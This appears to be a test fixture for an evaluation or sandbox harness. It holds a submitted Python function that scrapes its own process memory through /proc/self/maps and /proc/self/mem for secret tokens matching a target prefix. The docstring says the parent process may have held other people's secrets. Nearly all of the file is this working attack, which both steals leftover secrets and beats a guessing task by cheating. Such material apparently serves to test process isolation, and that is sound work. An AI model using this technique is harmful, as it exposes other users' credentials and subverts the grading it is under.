"""Reads its own memory byte by byte: the process it was forked from may have known other people's secrets."""

SUBMISSION = """
import re


def guess(x):
    pattern, pieces = re.compile(TARGET.prefix.encode() + rb"[0-9a-f]{16}"), []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 64 << 20:
                memory.seek(start)
                try:
                    pieces += pattern.findall(memory.read(end - start))
                except OSError:
                    continue
    return b" ".join(pieces).decode()
"""
